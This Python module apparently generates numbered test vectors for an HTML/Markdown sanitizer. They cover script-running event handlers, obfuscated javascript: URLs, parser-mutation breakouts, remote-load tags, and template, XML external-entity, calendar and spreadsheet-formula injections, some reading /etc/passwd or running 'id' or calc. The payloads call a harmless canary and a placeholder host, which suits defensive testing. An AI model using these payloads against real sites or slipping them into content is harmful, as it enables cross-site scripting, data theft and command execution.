"""Texts that try to run a script, load something from elsewhere, or turn into code, by family.

Each has its own number in what it would run, `canary(7)`, and in what it would load,
`http://HOST/7`, so that a test can tell which of them did. Written from the grammar of HTML, of
Markdown and of the files that a site has, not copied from lists.
"""

# ruff: noqa: E501 - a text in a line each

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, product

HOST = "HOST.invalid"
"""Stands for the address of a server that counts who asks it."""


@dataclass(frozen=True, slots=True)
class Vector:
    """One attempt: its number, its family, and its text."""

    number: int
    family: str
    text: str


_Payload = Callable[[str, str], str]
"""From what to run and what to load to a text."""

_TAGS = (
    *("img src=x", "img", "svg", "body", "iframe", "video src=x", "audio src=x", "input autofocus"),
    *(
        "select autofocus",
        "textarea autofocus",
        "button autofocus",
        "details open",
        "object data=x",
    ),
    *("embed src=x", "marquee", "a href=# autofocus", "div tabindex=1 autofocus", "style", "math"),
    *("video><source src=x", "script src=x", "link rel=stylesheet href=x", "keygen autofocus"),
)
_EVENTS = (
    *("onerror", "onload", "onfocus", "ontoggle", "onstart", "onpageshow", "onclick"),
    *("onmouseover", "onanimationstart", "onpointerenter", "onbeforeprint", "ONERROR"),
)
_SCHEMES = (
    "javascript:{js}", "JavaScript:{js}", "JAVASCRIPT:{js}", "jAvAsCrIpT:{js}", " javascript:{js}",
    "\tjavascript:{js}", "\njavascript:{js}", "java\tscript:{js}", "java\nscript:{js}",
    "java\rscript:{js}", "javascript\t:{js}", "javascript\n:{js}", "javascript :{js}",
    "\x01javascript:{js}", "\x0bjavascript:{js}", "\x1fjavascript:{js}", "\u00a0javascript:{js}",
    "\u200bjavascript:{js}", "\ufeffjavascript:{js}", "java\u200bscript:{js}", "java\x00script:{js}",
    "&#106;avascript:{js}", "&#x6a;avascript:{js}", "&#0000106avascript:{js}",
    "&#x6Aavascript:{js}", "javascript&#58;{js}", "javascript&#x3a;{js}", "javascript&colon;{js}",
    "java&#9;script:{js}", "java&#10;script:{js}", "java&Tab;script:{js}", "java&NewLine;script:{js}",
    "&#1;javascript:{js}", "&#32;javascript:{js}", "&#14; javascript:{js}", "%6aavascript:{js}",
    "%6A%61vascript:{js}", "javascript%3A{js}", "%256aavascript:{js}", "javascript:%63anary{arg}",
    "javascript://%0a{js}", "javascript:/*--></title>*/{js}", "javascript:void({js})",
    "javascript:'<script>{js}</script>'", "view-source:javascript:{js}", "feed:javascript:{js}",
    "jar:javascript:{js}", "vbscript:{js}", "livescript:{js}", "mocha:{js}", "blob:{js}",
    "ms-msdt:/id {js}", "intent://x#Intent;scheme={js};end", "file:///etc/passwd?{js}",
    "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD4x",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{js}", "data:image/svg+xml,<svg onload={js}>",
    "data:,{js}", "DATA:text/html,<svg onload={js}>", "data:application/xhtml+xml,<x>{js}",
    "//{host}", "\\\\{host}", "/\\{host}", "///{host}", "http:{host}", "https:/{host}",
    "ftp://{host}", "wss://{host}", "\\/\\/{host}", "%2f%2f{host}", "&#47;&#47;{host}",
)  # fmt: skip
_HOLDERS = (
    '<a href="{}">x</a>', "<a href={}>x</a>", '<iframe src="{}"></iframe>', '<object data="{}">',
    '<form action="{}"><button>x', '<svg><a xlink:href="{}"><text>x', '<math href="{}">x',
)  # fmt: skip
_MARKDOWN = (
    "[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", '[x](https://a.example "{}")',
    "[![x]({})]({})",
)  # fmt: skip
_CLOSINGS = (
    '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>",
    "</style>", "</noscript>", "</template>", "</svg>", "</a>", "</h1>", "?>", "%>", "*/", "\\",
    '\\"', "\\'", ")", "](", "](x ", "](<", "&quot;", "&#34;", "&apos;", "\x00", "\r\n", "\u2028",
    "</option></select>", "</iframe>", "</plaintext>", "</xmp>", "--!>", "<!--", "<![CDATA[",
)  # fmt: skip
_AFTER = (
    '<svg onload="{js}">', " onfocus={js} autofocus tabindex=1 x=", "<script>{js}</script>",
    '<img src="//{host}" onerror="{js}">',
)  # fmt: skip
_SCRIPTS = (
    "<script>{js}</script>", "<SCRIPT>{js}</SCRIPT>", "<ScRiPt>{js}</sCrIpT>", "<script >{js}</script >",
    "<script\n>{js}</script\n>", "<script\t>{js}</script>", "<script/x>{js}</script>",
    "<script\x0c>{js}</script>", "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>{js}//<</script>",
    "<script src=//{host}></script>", "<script src=http://{host}/>", '<script src="//{host}',
    "<script>{js}", "<script>{js}<!--", "<script><!--\n{js}//--></script>", "<script type=module>{js}</script>",
    "<script async defer>{js}</script>", "<script type=text/javascript>{js}</script>",
    "<script language=vbscript>{js}</script>", "<svg><script>{js}</script>", "<svg><script>&#99;anary{arg}</script>",
    "<svg><script xlink:href=//{host}></script>", "<svg><script href=//{host} />", "<math><script>{js}</script>",
    "<noscript><script>{js}</script></noscript>", "<template><script>{js}</script></template>",
    "<!--><script>{js}</script>-->", "<!--[if true]><script>{js}</script><![endif]-->",
    "<x><script>{js}</script></x>", "<xml><script>{js}</script></xml>", "＜script＞{js}＜/script＞",
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;", "&#x3c;script>{js}</script>",
    "%3Cscript%3E{js}%3C/script%3E", "&amp;lt;script&amp;gt;{js}", "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\\u003cscript\\u003e{js}", "\\x3cscript\\x3e{js}", "<scri\x00pt>{js}</script>", "<\x00script>{js}</script>",
)  # fmt: skip
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={js}>'>", "<svg></p><style><a id='</style><img src=1 onerror={js}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={js}&gt;'>",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={js}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>", "<svg><style><img src=x onerror={js}></style></svg>",
    "<table><td background='javascript:{js}'>", "<listing>&lt;img onerror={js} src=x&gt;</listing>", "<xmp><img src=x onerror={js}></xmp>",
    "<textarea><img title='</textarea><img src=x onerror={js}>'>", "<title><img title='</title><img src=x onerror={js}>'>",
    "<style><img title='</style><img src=x onerror={js}>'>", "<iframe><img title='</iframe><img src=x onerror={js}>'>",
    "<select><template><img src=x onerror={js}></template></select>", "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>", "<svg><title><img src=x onerror={js}></title></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>", "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributename=x>", "<svg><animatetransform onbegin={js}>", "<svg><image href=x onerror={js}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js}></svg>#x'>", "<svg><a><animate attributeName=href values=javascript:{js} /><text>x",
    "<svg/onload={js}>", "<svg\tonload={js}>", "<svg\nonload={js}>", "<svg\x0conload={js}>", "<svg onload\n=\n{js}>",
    "<svg onload='{js}'", "<img/src=x/onerror={js}>", "<img src=x onerror=\"{js}\"//", "<img \"\"\"><script>{js}</script>\">",
    "<img src=`x`onerror={js}>", "<body/onload={js}>", "<b/onpointerrawupdate={js}>x", "<x onclick={js}>x", "<x contenteditable onfocus={js} autofocus>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe srcdoc='&lt;svg onload={js}&gt;'></iframe>", "<object data='data:text/html,<svg onload={js}>'></object>",
)  # fmt: skip
_LOADS = (
    "<img src=//{host}>", "<img src=http://{host}>", "<img srcset='//{host} 1x'>", "<video poster=//{host}>", "<audio src=//{host}>",
    "<link rel=stylesheet href=//{host}>", "<link rel=prefetch href=//{host}>", "<link rel=dns-prefetch href=//{host}>",
    "<link rel=preload as=image href=//{host}>", "<link rel=manifest href=//{host}>", "<link rel=icon href=//{host}>",
    "<style>@import '//{host}';</style>", "<style>body{{background:url(//{host})}}</style>", "<div style='background:url(//{host})'>x",
    "<div style=\"background:\\75rl('//{host}')\">x", "<p style='list-style-image:url(//{host});display:list-item'>x",
    "<style>@font-face{{font-family:x;src:url(//{host})}}*{{font-family:x}}</style>", "<div style='width:expression({js})'>x",
    "<div style='behavior:url(//{host})'>x", "<body background=//{host}>", "<table background=//{host}><td>x", "<iframe src=//{host}></iframe>",
    "<embed src=//{host}>", "<object data=//{host}>", "<input type=image src=//{host}>", "<svg><image href=//{host} /></svg>",
    "<svg><use href=//{host}#x /></svg>", "<svg><feImage href=//{host} /></svg>", "<track src=//{host}>", "<video src=//{host}></video>",
    "![x](http://{host})", "![x](//{host})", "![x][r]\n\n[r]: http://{host}", "![x](https://{host} 'x')", "<picture><source srcset=//{host}><img></picture>",
    "<bgsound src=//{host}>", "<frameset><frame src=//{host}></frameset>", "<portal src=//{host}>", "<fencedframe src=//{host}>",
    "<a href=x ping=//{host}>x</a>", "<base href=//{host}/>",
)  # fmt: skip
_CODE = (
    "{{{{ canary{arg} }}}}", "{{{{ 7001 * {n} }}}}", "{{{{7001*{n}}}}}", "{{% set x = 1 %}}{{{{ 7001 * {n} }}}}", "{{% for a in 'ab' %}}{{{{ 7001 * {n} }}}}{{% endfor %}}",
    "{{% include 'base.html' %}}", "{{% import 'macros.html' as ui %}}", "{{% extends 'base.html' %}}", "{{# {n} #}}", "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{ self._TemplateReference__context }}}}", "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}", "{{{{ view }}}}", "{{{{ config }}}}",
    "{{{{ '{n}'|safe }}}}", "{{% raw %}}{{{{ 1 }}}}{{% endraw %}}", "{{% endblock %}}{n}", "{{% endraw %}}{n}", "${{7001*{n}}}", "#{{7001*{n}}}", "<%= 7001*{n} %>",
    "<?= 7001*{n} ?>", "<?php echo 7001*{n}; ?>", "[[7001*{n}]]", "{{{{constructor.constructor('{js}')()}}}}", "%(x)s %(n{n})s %d", "{{0}} {{x}} {n}", "$({js})",
    "<!--#include virtual='/etc/passwd' {n}-->", "<esi:include src=//{host} />",
)  # fmt: skip
_DATA = (
    '</script><script>{js}</script>', '</SCRIPT ><svg onload={js}>', '<!--<script>{js}', '<!--</script><script>{js}</script>', '"}};{js};//', "'+{js}+'", '\\"}};{js}//',
    '\u2028{js}', '\u2029{js}', '"]}}</script><img src=x onerror={js}>', '&quot;}}</script><script>{js}</script>', '");{js};linliSearch("', '\\");{js}//', '\t{js}\t</b>',
    '\r\nATTACH:http://{host}', '\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{n}', '\\n\\;ATTACH:{host}', '\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:{host}', ';X={n}:x', '\\',
    ']]><script xmlns="http://www.w3.org/1999/xhtml">{js}</script>', '</title><script xmlns="http://www.w3.org/1999/xhtml">{js}</script>',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>', '<?xml-stylesheet href="//{host}"?>', '<!DOCTYPE x [<!ENTITY a SYSTEM "http://{host}">]>&a;', '&xxe{n};',
    '<xi:include href="http://{host}"/>', '<atom:link href="javascript:{js}"/>', '</content></entry><entry><title>{n}', '=HYPERLINK("http://{host}")', '=cmd|\' /C calc\'!{n}',
)  # fmt: skip
_CLOBBERING = (
    "location",
    "document",
    "cookie",
    "body",
    "head",
    "forms",
    "getElementById",
    "linliSearch",
    "sheet",
    "content",
    "site-search",
    "reader",
    "attributes",
    "parentNode",
    "navigator",
    "fetch",
)
_CLOBBERS = (
    "<a id={} href=//{host}>",
    "<form name={}><input name=x></form>",
    "# x {{#{}}}",
    "<img name={}>",
)


def make_vectors() -> list[Vector]:
    """Return all vectors, each with a number of its own."""
    numbers = count(1)
    return [
        Vector(number := next(numbers), family, _fill(text, number)) for family, text in _texts()
    ]


def _fill(text: str, number: int) -> str:
    filled = text.replace("{js}", f"canary({number})").replace("{arg}", f"({number})")
    filled = filled.replace("{host}", f"{HOST}/{number}").replace("{n}", str(number))
    return filled.replace("{{", "{").replace("}}", "}")


def _texts() -> Iterator[tuple[str, str]]:
    style = " style='animation:x 1s'><style>@keyframes x{{}}</style"
    for tag, event in product(_TAGS, _EVENTS):
        yield "handler", f"<{tag} {event}={{js}}{style if 'animation' in event else ''}>"
    for number, scheme in enumerate(_SCHEMES):
        for step in (0, 3):
            yield "scheme", _HOLDERS[(number + step) % len(_HOLDERS)].replace("{}", scheme)
        for step in (0, 1, 3):
            yield "markdown", _MARKDOWN[(number + step) % len(_MARKDOWN)].replace("{}", scheme)
        yield "address", scheme
    for closing, after in product(_CLOSINGS, _AFTER):
        yield "breakout", closing + after
    for family, texts in (
        *(("script", _SCRIPTS), ("mutation", _MUTATIONS), ("load", _LOADS)),
        *(("template", _CODE), ("data", _DATA)),
    ):
        for text in texts:
            yield family, text
    for form, name in product(_CLOBBERS, _CLOBBERING):
        yield "clobbering", form.replace("{}", name)
